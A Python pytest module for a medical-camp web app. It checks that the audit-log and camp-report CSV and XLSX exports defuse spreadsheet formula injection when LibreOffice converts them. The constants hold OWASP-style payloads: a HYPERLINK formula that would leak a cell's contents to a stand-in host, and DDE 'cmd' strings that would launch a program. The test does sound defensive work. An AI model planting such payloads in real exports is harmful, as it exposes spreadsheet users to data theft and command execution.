"""The exports as LibreOffice opens them: hostile text stays text, numbers stay numbers.

A failed sign-in's username (through the real login endpoint), patients' names and doctors'
diagnoses are written as an attacker would (OWASP's examples,
https://owasp.org/www-community/attacks/CSV_Injection); the auditor's CSV of audit events and the
camp report's CSV zip and XLSX are downloaded through the admin views; `soffice --headless
--convert-to xlsx` (Debian's libreoffice-calc-nogui) converts them all in one start, with its
CSV import defaults, and openpyxl reads what LibreOffice made. A second start reads the CSV
files as a reader splitting on commas, semicolons and tabs and trimming spaces would. CI installs
LibreOffice (.ci/services); elsewhere the test is skipped, saying so.
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from consultations.models import QueueEntry
from patients import services as patient_services
from tests.factories import (
    PASSWORD,
    ConsultationFactory,
    PatientFactory,
    QueueEntryFactory,
    UserFactory,
    VisitFactory,
)
from tests.reports import known_camp

pytestmark = pytest.mark.django_db
SOFFICE = os.environ.get("SOFFICE", "soffice")
USERNAME = '=HYPERLINK("http://example.invalid/?x="&A2,"open")'
PATIENTS = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
# A diagnosis is split at commas and read in lower case: the first one is two diagnoses.
DIAGNOSES = ['=HYPERLINK("http://example.invalid/?x="&A2,"open")', '=HYPERLINK("http://example.invalid/")']
HOSTILE_DIAGNOSES = ['=hyperlink("http://example.invalid/?x="&a2', '=hyperlink("http://example.invalid/")']
AMLODIPINE = ("Amlodipine 2.5 mg (tablet)", 50, 30, 1, 100, 0, 30, -5, 0, 65)  # known_camp's numbers
# LibreOffice's CSV filter options (https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html):
# comma, semicolon and tab separate; '"' quotes; UTF-8; from line 1; then token 11, trim spaces.
SPLITTING_AND_TRIMMING = "CSV:44/59/9,34,76,1,,0,false,true,false,false,true"


def soffice() -> str:
    found = shutil.which(SOFFICE)
    if found is None:
        if os.environ.get("CI"):
            pytest.fail(f"{SOFFICE} is missing: .ci/services installs Debian's libreoffice-calc-nogui")
        pytest.skip(f"needs LibreOffice (apt-get install libreoffice-calc-nogui); {SOFFICE} is not on PATH")
    return found


def convert(files: list[Path], out: Path, profile: Path, *infilter: str) -> dict[str, Any]:
    """Every file converted to XLSX by one LibreOffice start, read back with openpyxl, by name."""
    command = [soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless", *infilter]
    done = subprocess.run(
        [*command, "--convert-to", "xlsx", "--outdir", str(out), *map(str, files)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    made = {path.stem: out / f"{path.stem}.xlsx" for path in files}
    missing = [name for name, path in made.items() if not path.exists()]
    assert done.returncode == 0 and not missing, (missing, done.stdout, done.stderr)
    for path in made.values():
        with zipfile.ZipFile(path) as archive:  # a formula is an <f> element, whatever openpyxl makes of it
            sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
            assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets), path
    return {name: load_workbook(path) for name, path in made.items()}


def cells(book: Any) -> list[Any]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def texts(book: Any) -> set[str]:
    return {cell.value for cell in cells(book) if isinstance(cell.value, str)}


def assert_no_formula_or_link(book: Any, name: str, *, from_csv: bool) -> None:
    for cell in cells(book):
        assert cell.data_type != "f" and cell.hyperlink is None, (name, cell.coordinate, cell.value)
        if from_csv and isinstance(cell.value, str):  # every hostile CSV cell carries OWASP's quote
            assert not cell.value.startswith("="), (name, cell.coordinate, cell.value)


def amlodipine_row(book: Any) -> tuple[Any, ...]:
    rows = (row for sheet in book.worksheets for row in sheet.iter_rows(values_only=True))
    return next(row[: len(AMLODIPINE)] for row in rows if row[0] == AMLODIPINE[0])


@pytest.fixture
def downloaded(tmp_path: Path, client_for: Any) -> dict[str, Any]:
    """The hostile strings planted, the three exports downloaded into tmp_path/in."""
    soffice()  # fail or skip before building anything
    camp = known_camp.build()["camp"]
    admin, doctor = UserFactory(roles=["admin"]), UserFactory(roles=["doctor"])
    patients = [PatientFactory(name=name) for name in PATIENTS]
    for patient, diagnosis in zip(patients, [*DIAGNOSES, "fever"], strict=True):
        patient_services.patient_update(by=admin, patient_id=patient.pk, area="Ward 7")
        entry = QueueEntryFactory(
            visit=VisitFactory(camp=camp, patient=patient), doctor=doctor, status=QueueEntry.Status.COMPLETED
        )
        ConsultationFactory(queue_entry=entry, diagnosis=diagnosis)
    refused = client_for().post("/api/v1/auth/login/", {"username": USERNAME, "password": PASSWORD}, format="json")
    assert refused.status_code in (400, 401), refused.content
    auditor = Client()
    auditor.force_login(UserFactory(roles=["auditor"]))
    into = tmp_path / "in"
    into.mkdir()
    audit_csv = auditor.get("/admin/audit/auditevent/export/")
    assert audit_csv.status_code == 200
    (into / "audit-events.csv").write_bytes(b"".join(audit_csv.streaming_content))
    report = f"/admin/camps/medicalcamp/{camp.pk}/report/"
    with zipfile.ZipFile(io.BytesIO(auditor.get(report, {"export": "csv"}).content)) as archive:
        archive.extractall(into)
    (into / "report.xlsx").write_bytes(auditor.get(report, {"export": "xlsx"}).content)
    labels = [f"{patient.name} ({patient.book_no})" for patient in patients]
    return {"dir": into, "labels": labels, "patient_ids": [patient.pk for patient in patients]}


def test_libreoffice_opens_no_formula_and_reads_the_text_as_typed(downloaded, tmp_path: Path):
    files = sorted(downloaded["dir"].iterdir())
    assert len(files) == 1 + 10 + 1  # the audit CSV, the report's ten CSVs, the report's XLSX
    books = convert(files, tmp_path / "out", tmp_path / "profile")
    for name, book in books.items():
        assert_no_formula_or_link(book, name, from_csv=name != "report")

    # The audit CSV: OWASP's quote in front, the rest as typed (LibreOffice shows the quote).
    audit = books["audit-events"].active
    header = [cell.value for cell in audit[1]]
    rows = list(audit.iter_rows(min_row=2))
    attempted = [row[header.index("attempted_username")] for row in rows]
    assert "'" + USERNAME in {cell.value for cell in attempted}
    patient = {row[header.index("patient")].value: row[header.index("patient_id")] for row in rows}
    for label, patient_id in zip(downloaded["labels"], downloaded["patient_ids"], strict=True):
        assert patient["'" + label].value == patient_id and patient["'" + label].data_type == "n"

    # The report's CSV files: the hostile diagnoses quoted, the comma's second half plain text, counts numbers.
    diagnoses = books["05-diagnoses"].active
    counted = {row[0].value: row[1] for row in diagnoses.iter_rows() if len(row) > 1}
    for text in HOSTILE_DIAGNOSES:
        assert counted["'" + text].value == 1 and counted["'" + text].data_type == "n"
    assert counted['"open")'].value == 1
    assert amlodipine_row(books["06-medicines"]) == AMLODIPINE  # ints, -5 too, not text

    # The report's XLSX: the diagnoses exactly as the report reads them, as string cells.
    sheet = books["report"]["Diagnoses"]
    found = {row[0].value: row for row in sheet.iter_rows() if isinstance(row[0].value, str)}
    for text in HOSTILE_DIAGNOSES:
        assert found[text][0].data_type == "s" and found[text][1].value == 1
    assert amlodipine_row(books["report"]) == AMLODIPINE


def test_a_reader_splitting_on_semicolons_and_tabs_and_trimming_spaces_finds_no_formula(downloaded, tmp_path: Path):
    files = sorted(downloaded["dir"].glob("*.csv"))
    books = convert(files, tmp_path / "out", tmp_path / "profile", f"--infilter={SPLITTING_AND_TRIMMING}")
    for name, book in books.items():
        assert_no_formula_or_link(book, name, from_csv=True)
    assert "'" + USERNAME in texts(books["audit-events"])
    assert {"'" + label for label in downloaded["labels"]} <= texts(books["audit-events"])
    assert {"'" + text for text in HOSTILE_DIAGNOSES} <= texts(books["05-diagnoses"])
